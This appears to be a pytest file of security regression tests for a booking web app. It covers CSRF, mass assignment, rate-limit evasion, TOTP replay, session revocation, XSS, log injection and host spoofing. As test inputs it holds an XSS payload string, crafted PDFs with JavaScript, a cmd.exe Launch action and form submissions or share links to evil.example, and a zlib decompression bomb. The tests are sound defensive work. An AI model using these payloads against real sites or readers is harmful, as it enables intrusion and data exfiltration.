"""Attacks, each by its name: what was tried against the site and must not work (again)."""

import io
import logging
import re
import zlib

import pytest
from sqlalchemy import update
from sqlalchemy.exc import IntegrityError

import auth
import extensions
from domain import errors, files, users
from extensions import db, security
from models import Approval, BookingOffer, FileKind, OfferStatus, Professional, Role, Status, User
from tests import factories
from tests.client import SAFE_METHODS
from tests.test_access import is_call

EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
HEADERS = {
    "Content-Security-Policy",
    "Permissions-Policy",
    "Referrer-Policy",
    "X-Content-Type-Options",
    "X-Frame-Options",
}


def log_in(client, person, password=factories.PASSWORD, **more):
    address = person if isinstance(person, str) else person.email
    return client.post("/login", data={"email": address, "password": password, **more})


def is_logged_in(client):
    return client.get("/account/security").status_code == 200


# -- Forged requests --------------------------------------------------------------------------


def test_no_unsafe_request_works_without_the_token(app, as_, customer, professional, admin):
    # Whose token it is not does not matter: a made-up one is tried by one of them.
    clients = [(as_(person), {}) for person in (customer, professional, admin)]
    clients += [(app.test_client(), {}), (as_(admin), {"X-CSRFToken": "made-up"})]
    for rule in app.url_map.iter_rules():
        # A mail program has no token; the address itself is the proof (RFC 8058).
        if rule.endpoint == "public.unsubscribe":
            continue
        # A gateway signs what it says (see test_gateway_hooks.py).
        if rule.endpoint == "gateway_hooks.hear":
            continue
        # A call of the API reads no cookie, so nobody's browser can be made to send one.
        if is_call(app, rule):
            continue
        for method in rule.methods - set(SAFE_METHODS):
            path = re.sub(r"<[^>]+>", "1", rule.rule)
            for client, token in clients:
                client.csrf = False
                assert client.open(path, method=method, headers=token).status_code == 400, (method, path)


@pytest.mark.parametrize("path", ["/login", "/signup", "/account/addresses/new", "/book", "/professional/pause"])
def test_json_is_no_form(as_, customer, path):
    assert as_(customer).post(path, json={"email": ["a"], "line": {"b": 1}, "name": 5}).status_code == 415


@pytest.mark.parametrize(
    "path, field",
    [
        ("/signup", "name"),
        ("/signup", "password"),
        ("/login", "email"),
        ("/profile", "name"),
        ("/account/addresses/new", "line"),
        ("/book", "starts_at"),
    ],
)
def test_a_file_is_no_text(as_, customer, path, field):
    assert as_(customer).post(path, data={field: (io.BytesIO(b"text"), "a.txt")}).status_code == 400


def test_asking_for_json_gets_the_page(client, customer):
    client.environ_base["HTTP_ACCEPT"] = "application/json"
    assert client.get("/login").mimetype == "text/html"
    assert log_in(client, customer, "wrong password").mimetype == "text/html"


def test_more_form_fields_than_the_form_has_change_nothing(client, as_, professional):
    more = {"role": "admin", "active": "0", "demo": "1", "confirmed_at": "x", "fs_uniquifier": "x", "id": "1"}
    data = {"name": "Hari", "email": "hari@example.com", "password": "nine blue kettles", **more}
    client.post("/signup", data=data)
    person = users.find("hari@example.com")
    assert (person.role, person.active, person.demo) == (Role.CUSTOMER, True, False)
    approved = {"approval": "approved", "approved": "1", "rating_sum": "500", "rank": "5", "phone": "98765 43210"}
    data |= {"pincode": factories.CITY_PIN, "radius_km": "5", "experience_years": "1", "email": "ida@example.com"}
    client.post("/signup/professional", data=data | approved)
    newcomer = db.session.get(Professional, users.find("ida@example.com").id)
    assert (newcomer.approval, newcomer.rating_sum) == (Approval.PENDING, 0)
    as_(professional).post("/profile", data=data | approved | {"name": "Dev", "bio": "I mend.", "speed_kmh": 20})
    changed = db.session.get(User, professional.id)
    assert (changed.name, changed.email, changed.role) == ("Dev", professional.email, Role.PROFESSIONAL)
    assert changed.professional.rating_sum == 0


def test_the_price_of_a_booking_is_not_what_the_form_says(as_, customer, professional):
    wish = {
        "professional_id": professional.id,
        "service_id": factories.service().id,
        "starts_at": factories.at(11, days=1).isoformat(),
        "address_id": users.addresses_of(customer)[0].id,
        "price": "1",
        # What they saw; for less than the price it is refused (tests/test_customer.py).
        "total": "99999999",
        "subtotal": "1",
        "status": "accepted",
        "customer_id": "1",
    }
    answer = as_(customer).post("/book", data=wish)
    booking = factories.booking(customer, professional, starts_at=factories.at(15, days=1))
    made = db.session.get(type(booking), int(answer.location.rsplit("/", 1)[1]))
    assert (made.total, made.status) == (booking.total, Status.PENDING)


@pytest.mark.parametrize(
    "query", ["professional_id=2", "endpoint=x", "_method=POST", "_external=1", "_scheme=javascript", "_anchor=x"]
)
def test_a_query_chooses_no_other_address(client, professional, query):
    answer = client.get(f"/professionals/{professional.id}/slots?{query}")
    assert (answer.status_code, answer.location) == (302, f"/professionals/{professional.id}?{query}#slots")


# -- Guessing ---------------------------------------------------------------------------------


def test_other_spellings_of_an_address_are_no_more_guesses(rate_limited, client):
    spellings = ("asha@example.com", "ASHA@Example.com ", "asha@ｅxample.com", "asha@exａmple.com", "asha@example。com")
    answers = [log_in(client, spellings[n % 5], "wrong password").status_code for n in range(11)]
    assert answers == [200] * 10 + [429]


def test_an_account_of_ones_own_buys_no_more_guesses(rate_limited, app, client, customer, other_customer):
    log_in(client, other_customer)
    for _ in range(9):
        log_in(app.test_client(), customer, "wrong password")
    assert log_in(client, customer, "wrong password").status_code == 302
    assert log_in(app.test_client(), customer, "wrong password").status_code == 429


def test_a_forged_sender_address_is_no_other_place(rate_limited, client, customer):
    for n in range(10):
        client.environ_base["HTTP_X_FORWARDED_FOR"] = f"10.0.0.{n}"
        log_in(client, customer, "wrong password")
    assert log_in(client, customer, "wrong password").status_code == 429


def with_second_step(client):
    page = client.post("/two-factor", data={"setup": "authenticator"}).text
    key = re.search(r"<code[^>]*>([A-Z0-9 -]+)</code>", page).group(1)
    code = security.totp_factory._totp(key).generate().token
    client.post(re.search(r'action="(/two-factor/[^"]+)"', page).group(1), data={"code": code})
    return code


def code_of(user):
    return security.totp_factory.generate_totp_password(db.session.get(User, user.id).tf_totp_secret)


def half_logged_in(app, person):
    client = app.test_client()
    assert log_in(client, person).location.startswith("/two-factor/code")
    return client


def test_a_code_that_somebody_looked_over_opens_nothing(app, as_, customer, frozen):
    used = with_second_step(as_(customer))
    thief = half_logged_in(app, customer)
    assert thief.post("/two-factor/code", data={"code": used}).status_code == 200
    assert not is_logged_in(thief)
    frozen.shift(30)
    code = code_of(customer)
    assert half_logged_in(app, customer).post("/two-factor/code", data={"code": code}).status_code == 302
    for seconds in (0, 15, 30):
        frozen.shift(seconds)
        assert thief.post("/two-factor/code", data={"code": code}).status_code == 200
    assert not is_logged_in(thief)


@pytest.mark.parametrize("step, changed", [("code", {"tf_last_counter": 1}), ("recovery", {"mf_recovery_codes": []})])
def test_a_code_sent_twice_at_once_logs_in_once(app, as_, customer, frozen, monkeypatch, step, changed):
    owner = as_(customer)
    with_second_step(owner)
    recovery = re.findall(r"<code[^>]*>([0-9a-f-]+)</code>", owner.post("/recovery-codes").text)
    frozen.shift(30)
    path, code = ("/two-factor/code", code_of(customer)) if step == "code" else ("/recovery-code", recovery[0])
    client = half_logged_in(app, customer)
    keep_changes = auth._keep_changes

    def somebody_was_faster(came_as):
        with db.engine.begin() as connection:
            connection.execute(update(User).values(changed))
        keep_changes(came_as)

    monkeypatch.setattr(auth, "_keep_changes", somebody_was_faster)
    assert client.post(path, data={"code": code}).status_code == 409
    monkeypatch.undo()
    assert not is_logged_in(client)


def test_the_first_step_alone_opens_no_page(app, as_, customer):
    with_second_step(as_(customer))
    client = half_logged_in(app, customer)
    for path in ("/home", "/profile", "/account/security", "/recovery-codes", "/two-factor", "/verify", "/bookings"):
        assert client.get(path).location.split("?")[0] in ("/login", "/"), path


@pytest.mark.parametrize(
    "lookalike",
    ["\u0430sha@example.com", "as\u200bha@example.com", "\uff41sha@example.com"],
)
def test_an_address_that_only_looks_like_another_is_none(client, customer, lookalike):
    data = {"name": "Asha Rao", "email": lookalike, "password": "nine blue kettles"}
    assert client.post("/signup", data=data).status_code == 422
    assert users.find(lookalike) is None
    assert users.normalise_email("asha@bücher.example") == "asha@xn--bcher-kva.example"


# -- Sessions ---------------------------------------------------------------------------------


def test_ending_other_sessions_is_no_proof_of_the_password(client, customer, frozen):
    log_in(client, customer)
    frozen.shift(3601)
    assert client.get("/two-factor").location.startswith("/verify")
    client.post("/account/security/sessions")
    assert client.get("/two-factor").location.startswith("/verify")


def test_a_stolen_cookie_does_not_outlive_a_block(as_, customer, admin):
    thief = as_(customer)
    person, boss = db.session.get(User, customer.id), db.session.get(User, admin.id)
    users.block(person, by=boss, reason="Stolen")
    users.unblock(person, by=boss)
    db.session.commit()
    assert not is_logged_in(thief)


@pytest.mark.parametrize("path", ["/login", "/change-password", "/two-factor", "/recovery-codes"])
def test_a_shared_browser_keeps_no_page_about_security(as_, customer, path):
    directives = re.split(r",\s*", as_(customer).get(path).headers["Cache-Control"])
    assert "no-store" in directives


# -- Whose it is ------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [OfferStatus.OPEN, OfferStatus.LOST, OfferStatus.DECLINED])
def test_an_offer_does_not_say_where_the_customer_lives(as_, customer, professional, other_professional, status):
    taken = status is OfferStatus.LOST
    booking = factories.booking(
        customer,
        other_professional if taken else None,
        service=factories.service(),
        status=Status.ACCEPTED if taken else Status.PENDING,
        address_line="Whispering Bamboo Lane 77",
        remarks="The key is under the mat",
    )
    offer = {"booking_id": booking.id, "professional_id": professional.id, "position": 1, "status": status}
    db.session.add(BookingOffer(**offer, created_at=booking.created_at))
    db.session.commit()
    page = as_(professional).get(f"/professional/jobs/{booking.id}").text
    for secret in ("Whispering", customer.phone, customer.email, customer.name):
        assert secret not in page
    assert ("under the mat" in page) == (status is OfferStatus.OPEN)


def test_a_cursor_of_another_person_shows_ones_own_rows(as_, customer, other_customer, professional):
    for person in (customer, other_customer):
        for day in range(1, 26):
            factories.booking(person, None, service=factories.service(), starts_at=factories.at(11, days=day))
    page = as_(other_customer).get("/bookings").text
    cursor = re.search(r'href="[^"]*after=([^"&]+)', page).group(1)
    shown = set(map(int, re.findall(r"/bookings/(\d+)", as_(customer).get(f"/bookings?after={cursor}").text)))
    theirs = set(map(int, re.findall(r"/bookings/(\d+)", page)))
    assert shown
    assert not shown & theirs


# -- What people write ------------------------------------------------------------------------


def test_tags_in_every_text_are_shown_as_text(as_, client, customer, professional, admin):
    db.session.get(User, customer.id).name = EVIL[:120]
    db.session.get(User, professional.id).name = EVIL[:120]
    db.session.get(Professional, professional.id).bio = EVIL
    booking = factories.booking(customer, professional, status=Status.CLOSED, remarks=EVIL, address_line=EVIL)
    factories.review(booking, comment=EVIL, reply=EVIL)
    db.session.commit()
    users.block(db.session.get(User, customer.id), by=db.session.get(User, admin.id), reason=EVIL)
    users.unblock(db.session.get(User, customer.id), by=db.session.get(User, admin.id))
    db.session.commit()
    pages = {
        client: (f"/professionals/{professional.id}", f"/search?q={EVIL}&near={EVIL}", f"/login?next=/{EVIL}"),
        as_(customer): (f"/bookings/{booking.id}", "/bookings", "/profile", "/customer-dashboard"),
        as_(professional): (f"/professional/jobs/{booking.id}", "/professional/reviews", "/professional/history"),
        as_(admin): (
            f"/admin/bookings/{booking.id}",
            f"/admin/people/{customer.id}",
            f"/admin/approvals/{professional.id}",
            "/admin/reviews",
            "/admin/audit",
            f"/admin/search?q={EVIL}",
            "/admin/summary",
        ),
    }
    for browser, paths in pages.items():
        for path in paths:
            page = browser.get(path).text
            assert "<script>alert" not in page, path
            assert "<img src=x" not in page, path


@pytest.mark.parametrize("amount", ["1e999999", "1e9999999999", "-1e-999999", "sNaN", "Infinity"])
def test_an_amount_beyond_all_is_refused(as_, professional, amount):
    data = {"name": "Dev", "phone": "98765 43210", "pincode": factories.CITY_PIN, "radius_km": 5, "experience_years": 1}
    data["speed_kmh"] = 20
    assert as_(professional).post("/profile", data={**data, "hourly_rate": amount}).status_code == 422


@pytest.mark.parametrize("moment", ["9999-12-31T23:59:59%2B00:00", "0001-01-01T00:00:00%2B00:00"])
def test_a_moment_at_the_end_of_time_is_refused(as_, customer, professional, moment):
    address = f"/book?professional_id={professional.id}&service_id={factories.service().id}&starts_at={moment}"
    assert as_(customer).get(address).status_code == 200


# -- Uploads ----------------------------------------------------------------------------------


def pdf(catalogue="", *more):
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    first = f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>"
    content, starts = b"%PDF-1.7\n", []
    for number, text in enumerate((first, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, *more), 1):
        starts.append(len(content))
        content += f"{number} 0 obj\n{text}\nendobj\n".encode()
    table = b"".join(b"%010d 00000 n \n" % start for start in starts)
    size = len(starts) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % size
    tail = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (size, len(content))
    return content + head + table + tail


@pytest.mark.parametrize(
    "content",
    [
        pdf("/OpenAction << /S /JavaScr#69pt /J#53 (app.alert(1)) >>"),
        pdf("/OpenAction << /S 4 0 R /F (cmd.exe) >>", "/Launch"),
        pdf("/OpenAction << /S /GoToR /F (//evil.example/share) /D [0 /Fit] >>"),
        pdf("/OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
        pdf("/X " + "[" * 50_000 + "]" * 50_000),
        b"%PDF-1.7\n1 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode >>\nstream\n"
        + zlib.compress(b" " * 100_000_000, 9)
        + b"\nendstream\nendobj\nstartxref\n9\n%%EOF",
    ],
    ids=["escaped names", "the name elsewhere", "a share", "a form", "depth", "a bomb"],
)
def test_a_pdf_that_does_more_than_show_pages_is_refused(app, content):
    assert files.check(FileKind.RESUME, io.BytesIO(pdf()))
    with pytest.raises(errors.Invalid):
        files.check(FileKind.RESUME, io.BytesIO(content))


# -- What leaks, and what stands still --------------------------------------------------------


def test_every_answer_carries_the_headers(client):
    for path in ("/", "/static/css/base.css", "/static/icons.svg", "/static/no", "/nowhere", "/healthz", "/logout"):
        answer = client.get(path)
        assert not HEADERS - set(answer.headers.keys()), path
        answer.close()


def test_an_address_forges_no_line_of_the_log(app, client, monkeypatch, caplog):
    monkeypatch.setitem(app.view_functions, "public.category", lambda category_slug: 1 / 0)
    with caplog.at_level(logging.ERROR):
        client.get("/services/a%0aERROR forged")
    assert caplog.messages[-1] == "unhandled error on GET /services/<category_slug>"


def test_an_error_of_the_database_says_nothing_of_what_was_typed(app, customer, other_customer):
    with pytest.raises(IntegrityError, match="hidden") as fault:
        db.session.execute(update(User).values(email="typed@example.com"))
    db.session.rollback()
    assert "typed@example.com" not in f"{fault.value} {fault.value.orig} {fault.value.__cause__}"


def test_a_host_that_is_not_the_site_gets_no_page(app, client, monkeypatch):
    monkeypatch.setitem(app.config, "TRUSTED_HOSTS", ["doorstep.example"])
    client.csrf = False
    for answer in (client.get("/", base_url="http://evil.example"), client.post("/login")):
        assert answer.status_code == 400
        assert not HEADERS - set(answer.headers.keys())
    assert client.get("/", base_url="http://doorstep.example").status_code == 200


def test_settings_show_no_secret(settings):
    assert settings.secret_key not in repr(settings)


class Slow(io.BytesIO):
    """A body that arrives in its own time, and looks at who has to wait meanwhile."""

    held_up = False

    def readinto(self, buffer):
        self.held_up = self.held_up or extensions._writer.locked()
        return super().readinto(buffer)


@pytest.mark.parametrize("path", ["/bookings/1/cancel", "/professional/pause", "/admin/people/1/block"])
def test_who_sends_slowly_holds_up_nobody(client, path):
    body = Slow(b"reason=" + b"x" * 1000)
    client.csrf = False
    client.post(path, input_stream=body, content_length=1007, content_type="application/x-www-form-urlencoded")
    assert body.tell() == 1007
    assert not body.held_up
